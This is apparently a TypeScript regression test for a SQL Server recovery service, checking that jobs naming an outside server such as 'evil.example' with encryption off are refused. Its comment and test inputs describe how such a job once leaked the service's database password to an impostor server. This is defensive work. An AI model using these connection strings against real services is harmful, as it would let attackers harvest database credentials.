/**
 * The service's own login must not go to a server an operator names (security breaker). A live or
 * log-backup job's connection takes what it does not say from the service's environment
 * (util/connection.ts resolveConnection: MSSQL_USER, MSSQL_PASSWORD, MSSQL_CONNECTION_STRING), the
 * administrator's login for the server those variables name. With allowedServers not set (the
 * default: any server), a job `{kind: "live", server: "Server=evil.example;Encrypt=false"}` made
 * the service log in to evil.example with MSSQL_USER and MSSQL_PASSWORD, a TDS login whose password
 * an impostor server reads back (unencrypted, it is only XOR-scrambled): any operator could take the
 * service's database password. Now such a job is refused at creation and on resume (400
 * INPUT_SERVER_NOT_ALLOWED, field server, no secret said): the environment's password goes to the
 * server the environment names, or to the servers allowedServers lists (the administrator's choice);
 * a connection carrying its own password goes anywhere, as before. SYNTHETIC hosts and secrets.
 */
import { describe, expect, it } from 'vitest';
import { LiveSource } from '../../src/recover/sources/live.js';
import { validateJobSpec } from '../../src/worker/job-validate.js';
import type { JobSpec } from '../../src/worker/job-spec.js';

const env = { MSSQL_SERVER: 'crm-sql.corp', MSSQL_USER: 'rowback_svc', MSSQL_PASSWORD: 'S3rvice-Secret!' };
const live = (server: string): JobSpec => ({ kind: 'live', server, database: 'crm' }) as JobSpec;
const refusal = async (spec: JobSpec, access: Parameters<typeof validateJobSpec>[1]) => {
  try {
    await validateJobSpec(spec, access);
    return null;
  } catch (e) {
    return e as Error & { code: string; location: { field?: string } };
  }
};

describe("a live job naming another server than the environment's, without a password of its own", () => {
  it("would have logged in there with the service's password", () => {
    const s = LiveSource.settings({ server: 'Server=evil.example;Encrypt=false', database: 'crm', env });
    expect([s.server, s.user, s.password]).toEqual(['evil.example', 'rowback_svc', 'S3rvice-Secret!']);
  });

  for (const server of ['Server=evil.example;Encrypt=false', 'evil.example', 'evil.example,1433', 'Data Source=tcp:evil.example;User Id=rowback_svc']) {
    it(`is refused: ${server}`, async () => {
      const e = await refusal(live(server), { env });
      expect(e?.code).toBe('INPUT_SERVER_NOT_ALLOWED');
      expect(e?.location.field).toBe('server');
      expect(e?.message).toContain('evil.example');
      expect(e?.message).not.toContain('S3rvice-Secret!');
      const lb = await refusal({ kind: 'log-backup', server, database: 'crm', logBackups: ['X:\\b.trn'] } as JobSpec, { env });
      expect(lb?.code).toBe('INPUT_SERVER_NOT_ALLOWED');
    });
  }

  it('a password in MSSQL_CONNECTION_STRING is kept home the same way', async () => {
    const e = await refusal(live('evil.example'), { env: { MSSQL_CONNECTION_STRING: 'Server=crm-sql.corp;User Id=svc;Password=Conn-Secret!' } });
    expect(e?.code).toBe('INPUT_SERVER_NOT_ALLOWED');
    expect(e?.message).not.toContain('Conn-Secret!');
  });

  it("the environment's own server, a connection with its own password, no password in the environment, or allowedServers set: taken as before", async () => {
    expect(await refusal(live('crm-sql.corp'), { env })).toBeNull();
    expect(await refusal(live('Server=CRM-SQL.corp,1433;Database=crm'), { env })).toBeNull();
    expect(await refusal(live('Database=crm'), { env })).toBeNull();
    expect(await refusal(live('Server=evil.example;User Id=mine;Password=my-own'), { env })).toBeNull();
    expect(await refusal(live('evil.example'), { env: { MSSQL_USER: 'svc' } })).toBeNull();
    expect(await refusal(live('evil.example'), { env, allowedServers: ['evil.example'] })).toBeNull();
  });
});
